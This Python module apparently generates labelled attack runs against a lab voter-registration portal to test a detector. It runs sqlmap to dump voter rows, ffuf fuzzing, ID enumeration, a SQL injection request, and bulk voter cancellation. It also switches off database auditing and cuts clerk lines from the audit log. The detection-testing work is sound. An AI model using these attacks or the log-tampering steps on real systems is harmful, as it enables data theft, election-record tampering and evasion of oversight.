"""The attacks of a run, each bounded in count and time. Each returns what Levelhead has to say of it."""

import os
import random
import shutil
import signal
import subprocess
import time

from logs import Marks, audited, records, rows
from replay import send

WORDS = ["/usr/share/dirb/wordlists/small.txt", "/usr/share/dirb/wordlists/common.txt"]


# Tools that are scripts find the system's own interpreters and libraries first.
ENVIRONMENT = {**os.environ, "PATH": "/usr/bin:" + os.environ.get("PATH", "")}


def run_tool(arguments, seconds, folder):
    """Runs a tool for at most so long. Returns whether it ended by itself."""
    with open(folder / "tools.txt", "ab") as said:
        # Some tools leave children behind; all of them are of one group.
        child = subprocess.Popen(
            arguments, stdin=subprocess.DEVNULL, stdout=said, stderr=subprocess.STDOUT, cwd=folder, env=ENVIRONMENT,
            start_new_session=True,
        )
        try:
            child.wait(seconds)
            return True
        except subprocess.TimeoutExpired:
            return False
        finally:
            try:
                os.killpg(child.pid, signal.SIGKILL)
            except ProcessLookupError:
                pass
            child.wait()


def sqlmap(lab, work):
    if not shutil.which("sqlmap"):
        return "sqlmap is not installed and apt-get could not add it"
    address = "203.0.113.20"
    target = f"{lab.url}/lookup?last=SMITH&dob=1970-01-01"
    run_tool(
        [
            "sqlmap", "-u", target, "-p", "dob", "--batch", "--technique=BU", "--dbms=postgresql", "--disable-coloring",
            f"--headers=X-Forwarded-For: {address}", "-D", "public", "-T", "voter", "-C", "id,last_name,dob", "--dump",
            f"--output-dir={work / 'sqlmap'}", "--flush-session",
        ],
        60, work,
    )
    # sqlmap has the database put all rows into one; by hand they come as rows.
    request = {"method": "GET", "target": "/lookup?last=SMITH&dob=1970-01-01%27+OR+%271%27%3D%271", "agent": "curl/8.5.0"}
    send(lab.ports["nginx"], request, address)
    return {"class": "injection", "assets": ["lab-portal", "lab-voters"], "sources": [address]}


def ffuf(lab, work):
    if not shutil.which("ffuf"):
        return "ffuf is not installed and apt-get could not add it"
    address = "203.0.113.21"
    words = work / "words.txt"
    words.write_text("\n".join(guesses()) + "\n")
    run_tool(
        [
            "ffuf", "-u", f"{lab.url}/FUZZ", "-w", str(words), "-H", f"X-Forwarded-For: {address}", "-p", "0.01",
            "-t", "5", "-maxtime", "15", "-s",
        ],
        25, work,
    )
    return {"class": "scanning", "assets": ["lab-portal"], "sources": [address]}


def guesses():
    """Names that scanners guess: of dirb's list where it is there, else of a few roots and endings."""
    for path in WORDS:
        try:
            with open(path, encoding="latin-1") as file:
                return [line.strip() for line in file if line.strip() and line[0] != "#"][:900]
        except OSError:
            continue
    roots = ["admin", "backup", "config", "db", "old", "test", "upload", "wp-admin", "phpmyadmin", "shell", "user", "log"]
    return [root + end for root in roots for end in ["", ".php", ".bak", ".zip", "/", ".old", ".txt", ".sql", "1", "~"]]


def enumerate_ids(lab, work):
    address = "203.0.113.22"
    for number in range(400):
        request = {"method": "GET", "target": f"/status?id={1000001 + number}", "agent": "python-requests/2.32.3"}
        send(lab.ports["nginx"], request, address)
    return {"class": "enumeration", "assets": ["lab-portal"], "sources": [address]}


def cancel(lab, work):
    dice = random.Random(5)
    numbers = dice.sample(range(1000001, 1003001), 260)
    lab.psql("clerk_7", "".join(f"update voter set status = 'cancelled', updated = now() where id = {n};\n" for n in numbers))
    return {"class": "bulk-change", "assets": ["lab-voters"], "sources": ["clerk_7"]}


def tamper(lab, work):
    """Auditing is switched off, voters are changed unseen, and lines are cut out of the log."""
    before = Marks({"database": lab.database})
    lab.psql("clerk_6", "".join(f"update voter set party = 'none' where id = {n};\n" for n in range(1002001, 1002041)))
    lab.psql("postgres", "alter system set pgaudit.log = 'none';\nselect pg_reload_conf();\n")
    time.sleep(0.3)
    lab.psql("clerk_6", "update voter set party = 'none' where id between 1001001 and 1001400;\n")
    lab.psql("postgres", "alter system reset pgaudit.log;\nselect pg_reload_conf();\n")
    time.sleep(0.3)
    whole = before.since()["database"]
    lines = whole.splitlines(keepends=True)
    of_clerk = [at for at, line in enumerate(lines) if ',"clerk_6",' in line and "AUDIT: " in line]
    cut = set(of_clerk[10:30])
    left = "".join(line for at, line in enumerate(lines) if at not in cut)
    with open(lab.database, "r+b") as file:
        # The collector appends to it whatever its length is.
        file.truncate(before.ends["database"])
        file.seek(0, 2)
        file.write(left.encode())
    return {"class": "log-tampering", "assets": ["lab-voters"], "sources": ["postgres"], "lines_cut": len(cut)}


ATTACKS = [("sqlmap", sqlmap), ("ffuf", ffuf), ("enumeration by number", enumerate_ids), ("bulk cancellation", cancel),
           ("auditing off, lines cut", tamper)]


def attack_all(lab, work):
    """Runs them one after the other. Returns what was done, and what was not and why."""
    paths = {"web": lab.access, "database": lab.database}
    found, skipped = [], []
    for name, attack in ATTACKS:
        before = Marks(paths)
        truth = attack(lab, work)
        after = Marks(paths)
        if isinstance(truth, str):
            skipped.append({"attack": name, "reason": truth})
            continue
        texts = before.since(after)
        counted = [role for role, *_ in audited(texts["database"])]
        truth.update(
            attack=name, begin=f"{before.time:%Y-%m-%dT%H:%M:%SZ}", end=f"{after.time:%Y-%m-%dT%H:%M:%SZ}",
            requests=texts["web"].count("\n"), rows=rows(texts["database"]), statements=len(counted),
            records=len(records(texts["database"])),
        )
        found.append(truth)
        print(f"   {name}: {truth['requests']} requests, {truth['statements']} statements, {truth['rows']} rows")
    return found, skipped
